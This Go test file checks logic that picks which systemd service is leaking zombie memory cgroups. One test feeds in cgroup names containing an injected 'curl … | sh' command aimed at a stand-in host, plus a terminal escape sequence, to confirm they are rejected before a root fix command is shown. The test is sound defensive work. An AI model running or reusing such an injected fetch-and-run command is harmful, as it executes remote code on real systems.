package live

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/amilint/amilint/internal/host/cgroup"
)

func TestTrackerFindsTheServiceWhoseRestartsTrackTheGrowth(t *testing.T) {
	var tr tracker
	// ecs.service restarts in bursts and every restart leaves two zombies;
	// noisy.service restarts steadily and leaves none.
	for _, s := range []struct {
		zombies    int
		ecs, noisy int
	}{{6, 3, 2}, {0, 0, 2}, {10, 5, 2}, {4, 2, 3}, {0, 0, 2}} {
		tr.add(s.zombies, map[string]int{"ecs.service": s.ecs, "noisy.service": s.noisy})
	}
	a, ok := tr.correlated()
	require.True(t, ok)
	assert.Equal(t, "ecs.service", a.unit)
	assert.Contains(t, a.why, "r=1.00")
	assert.Contains(t, a.why, "10 restarts, 20 new zombie memory cgroups")

	// Within the latest interval alone, the most restarts win.
	l, ok := tr.latest()
	assert.False(t, ok, "no zombie growth in the latest interval")
	tr.add(3, map[string]int{"noisy.service": 4, "ecs.service": 1})
	l, ok = tr.latest()
	require.True(t, ok)
	assert.Equal(t, "noisy.service", l.unit)
	assert.Equal(t, "it restarted 4 times while the zombie count grew by 3", l.why)
}

func TestTrackerNeedsVariationAndForgets(t *testing.T) {
	var tr tracker
	for range 5 {
		tr.add(2, map[string]int{"steady.service": 1})
	}
	_, ok := tr.correlated()
	assert.False(t, ok, "nothing varies: no correlation to see")
	for i := range 2 * maxSamples {
		tr.add(i%3, map[string]int{"x.service": i % 3})
	}
	assert.Len(t, tr.samples, maxSamples)
	a, ok := tr.correlated()
	require.True(t, ok)
	assert.Equal(t, "x.service", a.unit)
}

func TestTrackerExplained(t *testing.T) {
	for _, tc := range []struct {
		name     string
		zombies  int
		restarts map[string]int
		want     string
	}{
		{"restarts match the growth", 4, map[string]int{"leak.service": 4, "crashloop.service": 2}, "leak.service"},
		{"half the growth is enough", 6, map[string]int{"leak.service": 3}, "leak.service"},
		{"too few restarts for the growth", 7, map[string]int{"leak.service": 3}, ""},
		{"no growth", 0, map[string]int{"leak.service": 3}, ""},
		{"no restarts", 3, map[string]int{}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var tr tracker
			tr.add(tc.zombies, tc.restarts)
			a, ok := tr.explained()
			assert.Equal(t, tc.want != "", ok)
			assert.Equal(t, tc.want, a.unit)
			if ok {
				assert.Contains(t, a.why, "account for the zombie growth")
			}
		})
	}
}

func TestSuspectOrder(t *testing.T) {
	// The end-to-end test's container: ecs.service crash-loops and is
	// known to create a container per restart, but the zombies grew with
	// the restarts of another service.
	s := &Systemd{CrashLooping: []string{"crashloop.service", "ecs.service", "leak.service"}, ContainerPerRestart: []string{"ecs.service"}}
	c := &Cgroups{}
	var tr tracker
	tr.add(7, map[string]int{"leak.service": 8, "crashloop.service": 2, "ecs.service": 1})
	unit, why := suspect(c, s, &tr)
	assert.Equal(t, "leak.service", unit, "one interval: restarts that account for the growth beat the container-per-restart guess")
	assert.Contains(t, why, "it restarted 8 times while the zombie count grew by 7")

	tr = tracker{}
	tr.add(5, map[string]int{"other.service": 1})
	unit, why = suspect(c, s, &tr)
	assert.Equal(t, "ecs.service", unit, "one interval: a crash-looping container-per-restart service beats a restart that cannot account for the growth")
	assert.Contains(t, why, "new container")

	for _, z := range []int{0, 8, 2} {
		tr.add(z, map[string]int{"other.service": z})
	}
	unit, why = suspect(c, s, &tr)
	assert.Equal(t, "other.service", unit, "restarts that track the growth over several audits win")
	assert.Contains(t, why, "track the zombie growth")

	c.Unified = &cgroup.Unified{Leaking: "system.slice/leaky.service"}
	unit, _ = suspect(c, s, &tr)
	assert.Equal(t, "leaky.service", unit, "the v2 hierarchy names the leaking subtree directly")
	c.Memory = &cgroup.Memory{Version: 2}
	unit, _ = suspect(c, s, &tr)
	assert.Equal(t, "leaky.service", unit, "the memory controller on v2: its dying cgroups are memcgs")

	// A hybrid host, as systemd in nspawn here: the unified hierarchy
	// has no memory controller, its dying cgroups (briefly, at each
	// restart) say nothing about memcgs.
	c.Memory = &cgroup.Memory{Version: 1}
	c.Unified = &cgroup.Unified{Dying: 1, Leaking: "system.slice"}
	unit, why = suspect(c, s, &tr)
	assert.Equal(t, "other.service", unit, "hybrid: the unified hierarchy is not asked")
	assert.Contains(t, why, "track the zombie growth")
}

// TestSuspectFromCgroupNameIsAUnit: a delegated subtree's owner may name
// a cgroup anything; its name is the suspect, whose fix command is shown
// to be run as root, only when it is a valid unit name.
func TestSuspectFromCgroupNameIsAUnit(t *testing.T) {
	s := &Systemd{CrashLooping: []string{}, ContainerPerRestart: []string{}}
	var tr tracker
	tr.add(5, map[string]int{"other.service": 5})
	for _, leaking := range []string{
		"user.slice/user-1000.slice/user@1000.service/x; curl -s e.example | sh; .service",
		"user.slice/user-1000.slice/user@1000.service/\x1b[2J.scope",
		"user.slice/user-1000.slice/user@1000.service/a.b",
	} {
		c := &Cgroups{Memory: &cgroup.Memory{Version: 2}, Unified: &cgroup.Unified{Dying: 9, Leaking: leaking}}
		unit, _ := suspect(c, s, &tr)
		assert.Equal(t, "other.service", unit, "%q is no unit", leaking)
	}
	c := &Cgroups{Memory: &cgroup.Memory{Version: 2}, Unified: &cgroup.Unified{Dying: 9, Leaking: "system.slice/docker-0a1b.scope"}}
	unit, _ := suspect(c, s, &tr)
	assert.Equal(t, "docker-0a1b.scope", unit)
}
